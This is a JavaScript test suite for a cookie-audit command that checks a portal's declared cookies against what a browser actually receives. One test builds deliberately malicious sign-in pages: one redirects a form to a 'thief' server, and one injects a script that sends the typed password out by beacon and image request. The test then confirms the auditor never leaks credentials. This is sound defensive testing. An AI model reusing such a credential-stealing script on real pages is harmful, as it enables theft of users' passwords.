// Does `portico cookies audit` say the truth about a portal: one that keeps its word, one behind a proxy that adds things, one that
// misbehaves, one that wants the password?

import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import https from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { addPerson, after, before, portico, startPortal, test } from "./harness.mjs";

const person = { email: "auditor@example.org", password: "a password to audit with" };
const closing = [];
let portal;

before(async () => {
  portal = await startPortal();
  addPerson(portal.data, person.email, "administrator", person.password);
});

after(async () => {
  for (const close of closing) close();
  await portal?.stop();
});

/** Runs the audit; resolves to its exit code, its report and what it said meanwhile. */
function audit(address, { signIn = null, args = [], program = process.env.PORTICO_TEST_CHROMIUM } = {}) {
  const browser = program ? ["--browser", program] : [];
  const credentials = signIn ? ["--email", signIn.email, "--password-stdin"] : [];
  const all = ["cookies", "audit", address, "--json", ...browser, ...credentials, ...args];
  const child = spawn(process.env.PORTICO_TEST_BINARY, all);
  if (signIn) child.stdin.write(`${signIn.password}\n`);
  child.stdin.end();
  let out = "";
  let said = "";
  child.stdout.on("data", (chunk) => (out += chunk));
  child.stderr.on("data", (chunk) => (said += chunk));
  return new Promise((resolve) => {
    child.on("close", (code) => resolve({ code, said, out, report: out.startsWith("{") ? JSON.parse(out) : null }));
  });
}

/** Starts a server on a free port of that host; resolves to its address. */
async function serve(handler, { host = "127.0.0.1", name = host, tls } = {}) {
  const server = tls ? https.createServer(tls, handler) : http.createServer(handler);
  await new Promise((resolve) => server.listen(0, host, resolve));
  closing.push(() => {
    server.closeAllConnections();
    server.close();
  });
  return `${tls ? "https" : "http"}://${name}:${server.address().port}`;
}

/** A proxy in front of the portal with a script of its own; `change` gets the answer's headers and, for pages, its text, and returns the text. */
function proxy(change, script = "") {
  return serve((request, response) => {
    if (request.url === "/lb.js") return response.writeHead(200, { "content-type": "text/javascript" }).end(script);
    const headers = { ...request.headers, "accept-encoding": "identity" };
    const onward = http.request(portal.address + request.url, { method: request.method, headers }, (answer) => {
      const chunks = [];
      answer.on("data", (chunk) => chunks.push(chunk));
      answer.on("end", () => {
        const headers = { ...answer.headers };
        delete headers["content-length"];
        delete headers["transfer-encoding"];
        let body = Buffer.concat(chunks);
        const isPage = String(headers["content-type"]).startsWith("text/html");
        body = Buffer.from(change(headers, isPage ? body.toString() : null, request.url) ?? body);
        response.writeHead(answer.statusCode, headers);
        response.end(body);
      });
    });
    onward.on("error", () => response.destroy());
    request.pipe(onward);
  });
}

const subjects = (report, code) => report.differences.filter((one) => one.code === code).map((one) => one.subject);

test("a portal that keeps its word agrees, in everything that it declares", async () => {
  const { code, report, said } = await audit(portal.address, { signIn: person, args: ["--pages", "18"] });
  assert.deepEqual(report?.differences, [], said);
  assert.equal(code, 0);
  assert.equal(report.agrees, true);
  const seen = new Set(report.seen.map((held) => held.name));
  assert.deepEqual([...seen].sort(), ["cookies_preferences", "csrftoken", "django_language", "sessionid"]);
  assert.deepEqual(report.hosts, []);
  const lives = report.seen.filter((held) => held.name === "sessionid").map((held) => held.cookie.seconds);
  assert.ok(lives.includes(null) && lives.some((life) => Math.abs(life - 14 * 86_400) <= 60), "until the browser closes, and 14 days");
  const steps = new Set(report.steps.filter((step) => step.done).map((step) => step.stage));
  for (const stage of ["anonymous", "language", "choice", "failed-sign-in", "signed-in", "signed-out"]) assert.ok(steps.has(stage), stage);
});

test("what a proxy in front adds is found and named, and without a sign-in nothing is claimed about it", async () => {
  const third = await serve((_, response) => response.end(""), { name: "localhost" });
  const script = `localStorage.setItem("lb_visits", "1"); sessionStorage.setItem("lb_tab", "1"); new Image().src = "${third}/pixel.gif";`;
  const address = await proxy((headers, page) => {
    if (page === null) return null;
    headers["set-cookie"] = [...(headers["set-cookie"] ?? []), "__lb=1; Path=/"];
    delete headers["content-security-policy"];
    return page.replace("</head>", '<script src="/lb.js"></script></head>');
  }, script);
  const { code, report, said } = await audit(address, { args: ["--pages", "4"] });
  assert.equal(code, 1, said);
  assert.equal(report.agrees, false);
  assert.deepEqual(subjects(report, "undeclared").sort(), ["__lb", "lb_tab", "lb_visits"]);
  assert.deepEqual(subjects(report, "undeclared-host"), [new URL(third).host]);
  assert.deepEqual(subjects(report, "not-seen"), [], "nobody signed in: `sessionid` is out of reach");
  assert.deepEqual(subjects(report, "in-frame").sort(), ["lb_tab", "lb_visits"], "the script is in the embeds, too");
  assert.equal(report.differences.length, 6, JSON.stringify(report.differences, null, 1));
});

test("what stands in front of the portal is no difference once it is declared, and asks nobody", async () => {
  const address = await proxy((headers) => {
    headers["set-cookie"] = [...(headers["set-cookie"] ?? []), "__lb_7=a; Path=/; HttpOnly"];
    return null;
  });
  const before = await audit(address, { args: ["--pages", "3"] });
  assert.deepEqual(subjects(before.report, "undeclared"), ["__lb_7"], before.said);
  const file = join(portal.data, "balancer.json");
  const balancer = {
    key: "balancer",
    provider: "City computing centre",
    controller: "City of Example",
    policy_url: "",
    class: "necessary",
    purpose: "infrastructure",
    words: { en: { title: "Load balancer", text: "Remembers which machine answers, so that a form reaches the one that made it." } },
    hosts: [],
    storage: [{ name: "__lb_*", kind: "cookie", days: 0, own: true }],
  };
  writeFileSync(file, JSON.stringify({ ...balancer, class: "third-party" }));
  assert.throws(() => portico("cookies", "add", file, "--data", portal.data), /class: What stands in front of the portal is necessary/);
  writeFileSync(file, JSON.stringify(balancer));
  assert.match(portico("cookies", "add", file, "--data", portal.data), /Choices made before still hold/);
  await new Promise((resolve) => setTimeout(resolve, 700));
  const page = await (await fetch(`${portal.address}/terms/cookies-policy/`)).text();
  for (const part of ["__lb_*", "City computing centre", "Load balancer", "in front of"]) assert.ok(page.includes(part), part);
  assert.ok(!page.includes("data-consent-banner"));
  const after = await audit(address, { args: ["--pages", "3"] });
  assert.deepEqual(after.report.differences, [], after.said);
  assert.equal(after.code, 0);
  portico("cookies", "remove", "balancer", "--data", portal.data);
  await new Promise((resolve) => setTimeout(resolve, 700));
});

test("what the portal's own policy stops was not asked", async () => {
  const third = await serve((_, response) => response.end(""), { name: "localhost" });
  const address = await proxy((_, page) => page?.replace("</main>", `<img src="${third}/pixel.gif" alt=""></main>`));
  const { code, report, said } = await audit(address, { args: ["--pages", "3"] });
  assert.deepEqual(report?.differences, [], said);
  assert.equal(code, 0);
});

test("attributes, lives and places that a proxy changes are named", async () => {
  const address = await proxy((headers, page, url) => {
    const lines = headers["set-cookie"]?.map((line) =>
      line.startsWith("django_language=") ? line.replace(/Max-Age=\d+/, "Max-Age=60").replace("; HttpOnly", "") : line,
    );
    if (lines) headers["set-cookie"] = lines;
    if (url.startsWith("/statistics/") && page) headers["set-cookie"] = [`csrftoken=${"a".repeat(32)}; Max-Age=31449600; Path=/; SameSite=Lax`];
    return null;
  });
  const { code, report, said } = await audit(address, { args: ["--pages", "9"] });
  assert.equal(code, 1, said);
  assert.deepEqual(subjects(report, "lifetime"), ["django_language"]);
  assert.deepEqual(subjects(report, "attribute"), ["django_language"]);
  assert.deepEqual(subjects(report, "set-elsewhere"), ["csrftoken"]);
});

test("a declared cookie that nobody gets is named", async () => {
  const address = await proxy((headers) => {
    headers["set-cookie"] = headers["set-cookie"]?.filter((line) => !line.startsWith("cookies_preferences"));
    if (!headers["set-cookie"]?.length) delete headers["set-cookie"];
    return null;
  });
  const { code, report } = await audit(address, { args: ["--pages", "2"] });
  assert.equal(code, 1);
  assert.deepEqual(subjects(report, "not-seen"), ["cookies_preferences"]);
});

test("a page that never answers, asks questions or goes in circles is bounded and named", async () => {
  const register = JSON.stringify({ version: 1, items: [] });
  const list = ["/hangs/", "/circle/", "/asks/", "/slow-forever/"];
  const address = await serve((request, response) => {
    const html = (text) => response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><html lang=en><title>x</title>${text}`);
    if (request.url === "/hangs/") return undefined;
    if (request.url === "/circle/") return response.writeHead(302, { location: "/circle/" }).end();
    if (request.url === "/asks/") return html("<script>alert(1); confirm(2); onbeforeunload = () => 'no';</script>");
    if (request.url === "/slow-forever/") return html("<script>setInterval(() => fetch('/hangs/?' + Math.random()), 50)</script>");
    if (request.url === "/terms/cookies-policy.json") return response.writeHead(200, { "content-type": "application/json" }).end(register);
    if (request.url === "/sitemap.xml") return response.end(list.map((path) => `<loc>http://${request.headers.host}${path}</loc>`).join(""));
    return html("a page");
  });
  const begin = Date.now();
  const { code, report, said } = await audit(address, { args: ["--pages", "20", "--page-time", "3"] });
  assert.ok(Date.now() - begin < 120_000, "bounded");
  assert.equal(code, 1, said);
  assert.deepEqual(subjects(report, "page-not-looked-at").sort(), ["/circle/", "/hangs/"]);
  assert.match(report.differences.map((one) => one.message).join("\n"), /redirect in a circle/);
  assert.match(report.differences.map((one) => one.message).join("\n"), /no answer within 3 seconds/);
});

test("what cannot be audited ends with 2 and the reason", async () => {
  const folder = mkdtempSync(join(tmpdir(), "portico-cert-"));
  closing.push(() => rmSync(folder, { recursive: true, force: true }));
  const made = spawnSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=127.0.0.1", "-keyout", join(folder, "key.pem"), "-out", join(folder, "cert.pem")]);
  assert.equal(made.status, 0, "openssl makes a certificate");
  const tls = { key: readFileSync(join(folder, "key.pem")), cert: readFileSync(join(folder, "cert.pem")) };
  const other = await serve((_, response) => response.end("other"), { name: "localhost" });
  const cases = [
    ["http://127.0.0.1:9/", /nothing listens|could not load/],
    ["no address", /is not an address/],
    ["ftp://127.0.0.1/", /begins with http/],
    [await serve((_, response) => response.end("<p>hello")), /publishes no register|register of .* cannot be read/],
    [await serve((_, response) => response.writeHead(503).end()), /status 503/],
    [await serve((_, response) => response.writeHead(302, { location: other }).end()), /audit that address instead/],
    [await serve((_, response) => response.end("x"), { tls }), /certificate is signed by nobody/],
    [await serve(() => undefined), /no answer within 2 seconds/],
  ];
  for (const [address, reason] of cases) {
    const { code, said, out } = await audit(address, { args: ["--page-time", "2"] });
    assert.equal(code, 2, `${address}: ${said}`);
    assert.match(said, reason, address);
    assert.equal(out, "");
  }
  const missing = await audit(portal.address, { program: "/nowhere/chromium" });
  assert.equal(missing.code, 2);
  assert.match(missing.said, /there is no program at/);
});

test("a password never reaches another origin, whatever the sign-in page does", async () => {
  const heard = [];
  const thief = await serve((request, response) => {
    let body = "";
    request.on("data", (chunk) => (body += chunk));
    request.on("end", () => {
      heard.push(request.url + body);
      response.end("");
    });
  }, { name: "localhost" });
  const field = '<input type=email name=email><input type=password name=password><input type=checkbox name=keep>';
  const pages = {
    "a form that leads elsewhere": `<form method=post action="${thief}/take">${field}</form>`,
    "an answer that redirects the form": `<form method=post action="/go">${field}</form>`,
    "a script that sends what was typed": `<form method=post action="/login/">${field}</form><script>document.forms[0].addEventListener("submit", (event) => {
      event.target.action = "${thief}/take"; navigator.sendBeacon("${thief}/beacon", document.forms[0].password.value);
      new Image().src = "${thief}/?" + document.forms[0].password.value; });</script>`,
  };
  for (const [what, page] of Object.entries(pages)) {
    const address = await serve((request, response) => {
      const html = (text) => response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><html lang=en><title>x</title>${text}`);
      if (request.url.startsWith("/login")) return html(page);
      if (request.url === "/go") return response.writeHead(307, { location: `${thief}/take` }).end();
      if (request.url === "/terms/cookies-policy.json") return response.end('{"version":1,"items":[]}');
      return html("a page");
    });
    const { code, said } = await audit(address, { signIn: person, args: ["--pages", "1", "--page-time", "5"] });
    assert.equal(code, 2, `${what}: ${said}`);
    assert.deepEqual(heard.filter((text) => /password|audit/.test(text)), [], what);
  }
});

test("a password is not sent in the clear to another machine, and a wrong one is said", async () => {
  const clear = await audit("http://data.example.org/", { signIn: person });
  assert.equal(clear.code, 2);
  assert.match(clear.said, /https with a valid certificate only/);
  addPerson(portal.data, "other@example.org", "reader", "another password to use");
  const wrong = await audit(portal.address, { signIn: { email: "other@example.org", password: "wrong" }, args: ["--pages", "1"] });
  assert.equal(wrong.code, 2);
  assert.match(wrong.said, /did not let other@example.org in/);
});

test("a service that the portal declares is asked after consent only, and that agrees", async () => {
  const file = join(portal.data, "service.json");
  const service = {
    key: "stats",
    provider: "Example Count",
    controller: "Example Count Ltd, Dublin",
    policy_url: "https://stats.example.org/privacy",
    class: "statistical",
    purpose: "audience",
    words: { en: { title: "Audience measurement", text: "Counts visits with a tool of others." } },
    hosts: ["stats.example.org"],
    storage: [{ name: "_pk_id*", kind: "cookie", days: 390, own: true }],
    script: { url: "https://stats.example.org/count.js", data: { site: "7" } },
  };
  writeFileSync(file, JSON.stringify(service));
  portico("cookies", "add", file, "--data", portal.data);
  const { code, report, said } = await audit(portal.address, { args: ["--pages", "4"] });
  assert.deepEqual(report?.differences, [], said);
  assert.equal(code, 0);
  const asked = report.hosts.filter((host) => host.host === "stats.example.org");
  assert.ok(asked.length > 0, "the script was asked for");
  for (const host of asked) assert.equal(host.where.stage, "everything-allowed");
});
